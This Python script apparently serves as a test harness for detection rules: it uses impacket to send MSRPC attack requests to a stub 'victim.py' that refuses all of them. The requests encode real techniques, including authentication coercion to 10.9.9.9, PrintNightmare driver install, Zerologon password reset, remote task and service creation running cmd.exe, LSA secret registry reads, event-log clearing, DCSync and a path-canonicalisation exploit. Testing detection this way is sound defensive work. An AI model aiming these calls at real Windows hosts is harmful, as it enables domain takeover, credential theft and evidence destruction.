"""attack.py ADDRESS PORT NDR20|NDR64 KIND...|all: attacks as impacket encodes them, against victim.py, which refuses every call.

Each kind is one that a rule of ours names. Without a kind it lists them. What we would forge by hand might share our own misunderstandings.
"""
import sys

from impacket.dcerpc.v5 import atsvc, dcomrt, drsuapi, epm, even, even6, mgmt, nrpc, rprn, rrp, scmr, srvs, transport, tsch, wkst
from impacket.dcerpc.v5.dtypes import DWORD, LPWSTR, NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import string_to_bin, uuidtup_to_bin

NDR64 = ('71710533-beba-4937-8319-b5dbef9ccc36', '1.0')
HANDLE = b'\0' * 20
ELSEWHERE = '\\\\10.9.9.9\\share\\a.b\0'

address, port, syntax = (sys.argv + [''] * 4)[1:4]


def bound(interface):
    rpc = transport.DCERPCTransportFactory(f'ncacn_ip_tcp:{address}[{port}]').get_dce_rpc()
    rpc.connect()
    uuid = interface if isinstance(interface, bytes) else uuidtup_to_bin(interface)
    rpc.bind(uuid, **({'transfer_syntax': NDR64} if syntax == 'NDR64' else {}))
    return rpc


def denied(call, *arguments, **named):
    """The victim refuses every call: anything else is a mistake of this script."""
    try:
        call(*arguments, **named)
    except DCERPCException as refusal:
        assert 'access_denied' in str(refusal), refusal
    else:
        sys.exit('a call was answered')


def send(interface, request, **members):
    for name, value in members.items():
        request[name] = value
    denied(bound(interface).request, request)


def raw(interface, opnum, stub=b'\0' * 100):
    rpc = bound(interface)
    rpc.call(opnum, stub)
    denied(rpc.recv)


def operation(number, *members):
    """A call that impacket has no class for."""
    return type('Operation', (NDRCALL,), {'opnum': number, 'structure': members})()


def coercion():
    for uuid in ('c681d488-d850-11d0-8c52-00c04fd90f7e', 'df1941c5-fe89-4e79-bf10-463657acf44d'):
        send((uuid, '1.0'), operation(0, ('FileName', WSTR), ('Flags', ULONG)), FileName=ELSEWHERE, Flags=0)
    send(rprn.MSRPC_UUID_RPRN, rprn.RpcRemoteFindFirstPrinterChangeNotificationEx(), hPrinter=HANDLE, fdwFlags=rprn.PRINTER_CHANGE_ADD_JOB,
         pszLocalMachine='\\\\10.9.9.9\0', pOptions=NULL)
    send(('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0'), operation(13, ('ServerName', WSTR), ('RootShare', WSTR), ('ApiFlags', DWORD)),
         ServerName='10.9.9.9\0', RootShare='test\0', ApiFlags=1)
    send(('a8e0653c-2744-4389-a61d-7373df8b2292', '1.0'), operation(9, ('ShareName', WSTR)), ShareName='\\\\10.9.9.9\\NETLOGON\0')
    send(even.MSRPC_UUID_EVEN, even.ElfrOpenBELW(), UNCServerName=NULL, BackupFileName='\\??\\UNC\\10.9.9.9\\aa', MajorVersion=1, MinorVersion=1)


def spoolss():
    driver = rprn.DRIVER_CONTAINER()
    driver['Level'] = driver['DriverInfo']['tag'] = 2
    for name, value in (('cVersion', 3), ('pName', 'x\0'), ('pEnvironment', 'Windows x64\0'), ('pDriverPath', 'C:\\UNIDRV.DLL\0'),
                        ('pDataFile', ELSEWHERE), ('pConfigFile', 'C:\\kernelbase.dll\0')):
        driver['DriverInfo']['Level2'][name] = value
    denied(rprn.hRpcAddPrinterDriverEx, bound(rprn.MSRPC_UUID_RPRN), pName=NULL, pDriverContainer=driver, dwFileCopyFlags=0x8014)


def zerologon():
    zeros = nrpc.NETLOGON_AUTHENTICATOR()
    zeros['Credential'], zeros['Timestamp'] = b'\0' * 8, 0
    # Names of several lengths: what stands behind them is padded differently.
    for name in ('DC1', 'DC01', 'DC-01', 'DC-001'):
        channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
        account, computer = name + '$\0', name + '\0'
        denied(nrpc.hNetrServerAuthenticate3, bound(nrpc.MSRPC_UUID_NRPC), computer, account, channel, computer, b'\0' * 8, 0x212fffff)
        send(nrpc.MSRPC_UUID_NRPC, nrpc.NetrServerPasswordSet2(), PrimaryName=NULL, AccountName=account, SecureChannelType=channel, ComputerName=computer,
             Authenticator=zeros, ClearNewPassword=b'\0' * 516)


def schtask():
    task = '<Task><Exec><Command>cmd.exe</Command><Arguments>/C dir</Arguments></Exec></Task>'
    denied(tsch.hSchRpcRegisterTask, bound(tsch.MSRPC_UUID_TSCHS), '\\x', task, tsch.TASK_CREATE, NULL, tsch.TASK_LOGON_NONE)
    job = atsvc.AT_INFO()
    job['JobTime'] = job['DaysOfMonth'] = job['DaysOfWeek'] = job['Flags'] = 0
    job['Command'] = 'cmd.exe /C at\0'
    denied(atsvc.hNetrJobAdd, bound(atsvc.MSRPC_UUID_ATSVC), atInfo=job)


def svcctl():
    denied(scmr.hRCreateServiceW, bound(scmr.MSRPC_UUID_SCMR), HANDLE, 'a\0', 'a\0', lpBinaryPathName='\\\\10.0.0.9\\ADMIN$\\q.exe\0')
    denied(scmr.hRChangeServiceConfigW, bound(scmr.MSRPC_UUID_SCMR), HANDLE, lpBinaryPathName='C:\\x\\cmd.exe /c service\0')
    denied(scmr.hRStartServiceW, bound(scmr.MSRPC_UUID_SCMR), HANDLE)


def credentials():
    for key in ('SYSTEM\\CurrentControlSet\\Control\\Lsa\\Skew1\0', 'SECURITY\\Policy\\Secrets\0'):
        denied(rrp.hBaseRegOpenKey, bound(rrp.MSRPC_UUID_RRP), rrp.RPC_HKEY(), key)


def recon():
    denied(srvs.hNetrSessionEnum, bound(srvs.MSRPC_UUID_SRVS), '\0', NULL, 10)
    denied(wkst.hNetrWkstaUserEnum, bound(wkst.MSRPC_UUID_WKST), 1)
    denied(mgmt.hinq_if_ids, bound(mgmt.MSRPC_UUID_MGMT))
    denied(epm.hept_lookup, None, dce=bound(epm.MSRPC_UUID_PORTMAP))


def defense_evasion():
    raw(even6.MSRPC_UUID_EVEN6, 6)  # EvtRpcClearLog, [MS-EVEN6] 3.1.4.16


def exploit():
    path = operation(31, ('ServerName', LPWSTR), ('PathName', WSTR), ('OutbufLen', DWORD), ('Prefix', WSTR), ('PathType', DWORD), ('Flags', DWORD))
    send(srvs.MSRPC_UUID_SRVS, path, ServerName='X\0', PathName='\\AAAA\\..\\..\\BBBB\0', OutbufLen=1000, Prefix='\\\0', PathType=0, Flags=0)


def dcsync():
    raw(drsuapi.MSRPC_UUID_DRSUAPI, 3)


def relay():
    raw(('91ae6020-9e3c-11cf-8d7c-00aa00c091be', '0.0'), 0)


def dcom_exec():
    activation = dcomrt.RemoteActivation()
    activation['pIIDs'].append(dcomrt.IID())
    activation['aRequestedProtseqs'].append(7)
    activation['pIIDs'][0]['Data'] = string_to_bin('00020400-0000-0000-C000-000000000046')
    send(dcomrt.IID_IActivation, activation, Clsid=string_to_bin('C08AFD90-F2A1-11D1-8455-00A0C91F3880'), pwszObjectName='\\\\' + 'A' * 300 + '\\C$\\1.doc\0',
         pObjectStorage=NULL, ClientImpLevel=2, Mode=0, Interfaces=1, cRequestedProtseqs=1)


KINDS = {'coercion': coercion, 'credentials': credentials, 'dcom-exec': dcom_exec, 'dcsync': dcsync,
         'defense-evasion': defense_evasion, 'exploit': exploit, 'recon': recon, 'relay': relay, 'schtask': schtask, 'spoolss': spoolss,
         'svcctl': svcctl, 'zerologon': zerologon}

if len(sys.argv) < 5:
    sys.exit('usage: attack.py ADDRESS PORT NDR20|NDR64 KIND...|all, of ' + ' '.join(KINDS))
for kind in KINDS if sys.argv[4:] == ['all'] else sys.argv[4:]:
    KINDS[kind]()
